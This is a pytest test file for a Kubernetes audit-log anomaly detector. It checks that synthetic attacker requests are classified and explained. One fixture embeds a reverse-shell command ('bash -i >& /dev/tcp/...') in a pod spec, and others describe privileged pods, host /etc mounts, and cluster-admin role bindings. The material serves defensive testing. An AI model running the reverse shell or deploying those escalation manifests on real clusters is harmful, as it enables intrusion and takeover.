"""The eight anomalous types: learnt on some requests, told of others, by the same machinery."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from rtml import features
from rtml.captures import Capture, import_capture, open_capture
from rtml.errors import UsageError
from rtml.features.api_calls import calls_of
from rtml.models import train
from rtml.models.explaining.anomalous import call_types, explain_calls
from rtml.splits import Split
from tests.conftest import SHARED
from tests.samples import DATA

BEGIN = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
LEARNT = 300
"""Minutes of ordinary requests."""

ALICE: dict[str, Any] = {
    "user": {"username": "alice"},
    "userAgent": "kubectl/v1.30 (linux/amd64)",
    "sourceIPs": ["192.0.2.1"],
}
THIEF: dict[str, Any] = {**ALICE, "userAgent": "curl/8.5", "sourceIPs": ["203.0.113.66"]}


def request(number: int, minute: float, verb: str, what: str, **more: Any) -> dict[str, Any]:
    at = (BEGIN + dt.timedelta(minutes=minute)).isoformat().replace("+00:00", "Z")
    resource, _, part = what.partition("/")
    return {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "auditID": f"r{number}",
        "stage": "ResponseComplete",
        "verb": verb,
        "responseStatus": {"code": 200},
        "objectRef": {
            "resource": resource,
            "namespace": "web",
            "name": "x",
            **({"subresource": part} if part else {}),
        },
        "requestReceivedTimestamp": at,
        **ALICE,
        **more,
    }


def ordinary() -> list[dict[str, Any]]:
    """Alice looks at pods and config maps, a controller makes pods of one image."""
    pod = {"kind": "Pod", "spec": {"containers": [{"image": "shop:1"}]}}
    controller = {
        "user": {"username": "system:controller"},
        "userAgent": "controller/v1",
        "sourceIPs": ["10.0.0.1"],
        "requestObject": pod,
    }
    calls = [request(i, i, "get", ("pods", "configmaps")[i % 2]) for i in range(LEARNT)]
    return calls + [request(1000 + i, i + 0.2, "create", "pods", **controller) for i in range(0, LEARNT, 3)]


def pod_of(**container: Any) -> dict[str, Any]:
    return {"kind": "Pod", "spec": {"containers": [{"image": "evil:1", **container}]}}


MOUNT = {
    "kind": "Pod",
    "spec": {"containers": [{"image": "evil"}], "volumes": [{"hostPath": {"path": "/etc"}}]},
}
REVIEW = {
    "kind": "SelfSubjectAccessReview",
    "status": {"allowed": True},
    "spec": {"resourceAttributes": {"verb": "*", "resource": "secrets"}},
}


def binding(role: str) -> dict[str, Any]:
    return {"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": role}}


EIGHT: list[tuple[str, float, tuple[str, str], Any]] = [
    ("CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed", 5, ("list", "secrets"), None),
    (
        "Discovery:Kubernetes/AnomalousBehavior.PermissionChecked",
        2,
        ("create", "selfsubjectaccessreviews"),
        REVIEW,
    ),
    ("Execution:Kubernetes/AnomalousBehavior.ExecInPod", 5, ("create", "pods/exec"), None),
    ("Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed", 2, ("create", "pods"), pod_of()),
    (
        "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
        5,
        ("create", "pods"),
        pod_of(command=["sh", "-c", "bash -i >& /dev/tcp/203.0.113.1/4444"]),
    ),
    (
        "Execution:Kubernetes/AnomalousBehavior.WorkloadDeployed",
        5,
        ("create", "pods"),
        pod_of(image="kalilinux/kali-rolling"),
    ),
    (
        "Persistence:Kubernetes/AnomalousBehavior.WorkloadDeployed!ContainerWithSensitiveMount",
        8,
        ("create", "pods"),
        MOUNT,
    ),
    (
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer",
        8,
        ("create", "pods"),
        pod_of(securityContext={"privileged": True}),
    ),
    (
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleCreated",
        2,
        ("create", "clusterroles"),
        {"kind": "ClusterRole", "rules": [{"verbs": ["*"], "resources": ["*"]}]},
    ),
    (
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated",
        5,
        ("create", "clusterrolebindings"),
        binding("view"),
    ),
    (
        "PrivilegeEscalation:Kubernetes/AnomalousBehavior.RoleBindingCreated",
        8,
        ("create", "clusterrolebindings"),
        binding("cluster-admin"),
    ),
]


def capture_of(folder: Path, requests: list[dict[str, Any]]) -> Capture:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "log").write_text("".join(json.dumps(one) + "\n" for one in requests))
    import_capture("k8s-audit", [folder / "log"], folder / "c")
    return open_capture(folder / "c")


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Any:
    capture = capture_of(tmp_path_factory.mktemp("learnt"), ordinary())
    split = Split(BEGIN + dt.timedelta(minutes=LEARNT * 0.6), capture.span[1] + dt.timedelta(minutes=1))
    return train(capture, ["surprise"], split, families=["audit"], combine=[])


@pytest.mark.parametrize("kind, severity, call, body", EIGHT, ids=[f"{e[0]} {e[1]}" for e in EIGHT])
def test_each_type_is_told_of_a_thief_who_does_it(
    kind: str, severity: float, call: tuple[str, str], body: Any, trained: Any, tmp_path: Path
):
    stolen = request(5000, 1000, *call, **THIEF, requestObject=body, responseObject=body)
    usual = [request(6000 + i, 990 + i / 9, "get", "pods") for i in range(20)]
    scored = trained.score(capture_of(tmp_path, [*usual, stolen]))
    (finding,) = scored.findings.to_dicts()
    assert (finding["type"], finding["severity"], finding["actor"]) == (kind, severity, "alice")
    assert finding["source"] == "model"
    assert (finding["container_id"], finding["process_id"]) == (None, None)
    told = " | ".join(one["feature"] for one in finding["contributions"])
    assert "user alice: user agent curl UNSEEN (0 in 2026-01-01" in told
    assert "usual: kubectl 100 %" in told
    assert "address 203.0.113.66 UNSEEN" in told
    if body in (MOUNT, pod_of()):
        assert "workload web/-: images evil UNSEEN" in told and "usual: shop 100 %" in told


def test_ordinary_requests_raise_nothing(trained: Any, tmp_path: Path):
    usual = [request(6000 + i, 990 + i, "get", ("pods", "configmaps")[i % 2]) for i in range(60)]
    scored = trained.score(capture_of(tmp_path, usual))
    assert scored.findings.is_empty()
    assert scored.windows.height == 60


@pytest.mark.parametrize(
    ("verb", "what", "body", "grants"),
    [
        ("create", "pods", pod_of(), "nothing"),
        ("patch", "deployments", None, "nothing"),
        ("get", "pods", None, None),
        ("create", "pods", pod_of(securityContext={"privileged": True}), "privileged"),
        ("create", "pods", MOUNT, "path of the host /etc"),
        (
            "create",
            "pods",
            {"kind": "Pod", "spec": {"hostPID": True, "containers": [{"image": "x"}]}},
            "processes of the host",
        ),
        ("create", "clusterrolebindings", binding("view"), "role ClusterRole/view"),
        (
            "create",
            "clusterroles",
            {"kind": "ClusterRole", "rules": [{"verbs": ["*"], "resources": ["*"]}]},
            "all verbs, all resources",
        ),
        (
            "create",
            "clusterroles",
            {"kind": "ClusterRole", "rules": [{"verbs": ["get"], "resources": ["pods"]}]},
            "nothing",
        ),
    ],
)
def test_what_a_change_grants_is_said(verb: str, what: str, body: Any, grants: str | None, tmp_path: Path):
    capture = capture_of(tmp_path, [request(1, 1, verb, what, requestObject=body)])
    assert calls_of(capture).select("grants").collect().item() == grants


def test_the_catalogue_is_complete():
    assert len({kind for kind, *_ in EIGHT}) == 8


def test_windows_are_of_users(trained: Any):
    assert set(trained.trees["container_id"]) == {"alice", "system:controller"}
    assert set(trained.trees["workload"]) == {"alice", "system:controller"}
    assert trained.trees["process_id"].null_count() == 0, "what a request is about stands for a tree"


def test_audit_goes_with_no_family_of_containers(trained: Any, tmp_path: Path):
    capture = capture_of(tmp_path, ordinary()[:5])
    with pytest.raises(UsageError, match="windows of users"):
        features.windows(capture, None, ["audit", "files"])
    with pytest.raises(UsageError, match="needs a capture"):
        features.windows(capture.events(), None, ["audit"])


def test_without_a_baseline_nothing_is_normal(tmp_path: Path):
    windows = features.windows(capture_of(tmp_path, ordinary()[:5]), None, ["audit"])
    assert windows["audit.bits_sum"].null_count() == windows.height > 0
    assert windows["audit.calls"].null_count() == 0


def test_later_requests_change_nothing_earlier(trained: Any, tmp_path: Path):
    requests = ordinary()[:60]
    early = features.windows(capture_of(tmp_path / "a", requests), trained.baseline, ["audit"])
    more = [*requests, request(7000, 500, "delete", "secrets", **THIEF)]
    late = features.windows(capture_of(tmp_path / "b", more), trained.baseline, ["audit"])
    assert late.filter(pl.col("window") < BEGIN + dt.timedelta(minutes=400)).equals(early)


REAL = [f for f in sorted((SHARED / "k8s_audit").glob("*.json")) if "fal_01" not in f.name]
SAMPLE = DATA / "k8s-audit" / "audit.jsonl"
ODD = {"some-user": "some-user_creates", "system:anonymous": "anonymous_creates"}
"""User to files. The two are one recorded request, edited: they share its id."""


def halves(who: str, folder: Path) -> tuple[list[Path], list[Path]]:
    """Return files of what others asked, and of what the odd user asked."""
    if who in ODD:
        known = [f for f in REAL if not any(one in f.name for one in ODD.values())]
        return known, [f for f in REAL if ODD[who] in f.name]
    lines = SAMPLE.read_text("utf-8").splitlines(keepends=True)
    theirs = [f'"username":"{who}"' in line for line in lines]
    for name, wanted in (("known", False), ("odd", True)):
        part = [line for line, his in zip(lines, theirs, strict=True) if his is wanted]
        (folder / name).write_text("".join(part))
    return [folder / "known"], [folder / "odd"]


@pytest.mark.parametrize("who", ["system:serviceaccount:orders:default", *(ODD if REAL else ())])
def test_requests_of_some_tell_of_another(who: str, tmp_path: Path):
    """There is far too little recorded for a measure of quality: this shows that it runs."""
    known, odd = halves(who, tmp_path)
    import_capture("k8s-audit", known, tmp_path / "learn")
    import_capture("k8s-audit", odd, tmp_path / "judge")
    baseline = features.learn(open_capture(tmp_path / "learn"), families=["audit"])
    judged = open_capture(tmp_path / "judge")
    windows = features.windows(judged, baseline, ["audit"], unit="tree")
    alarms = windows.select("container_id", "window", "process_id").with_columns(
        detector=pl.lit("all"), score=pl.lit(1.0), p_value=pl.lit(None, pl.Float64)
    )
    surprises = features.surprises(judged, None, baseline, ["audit"])
    findings = explain_calls(alarms, surprises, calls_of(judged), baseline)
    assert set(findings["actor"]) == {who}
    assert findings.height == 1 or who not in ODD
    assert all(one["feature"].startswith("user") for one in findings["contributions"][0])
    assert windows["audit.unknown_context"].min() > 0, "nobody knew this user"


@pytest.mark.parametrize("files", [[SAMPLE], *([REAL] if REAL else [])], ids=len)
def test_every_request_has_a_type(files: list[Path], tmp_path: Path):
    import_capture("k8s-audit", files, tmp_path / "c")
    kinds = call_types(calls_of(open_capture(tmp_path / "c"))).collect()
    assert kinds["type"].null_count() == 0
    assert kinds["type"].n_unique() >= 8
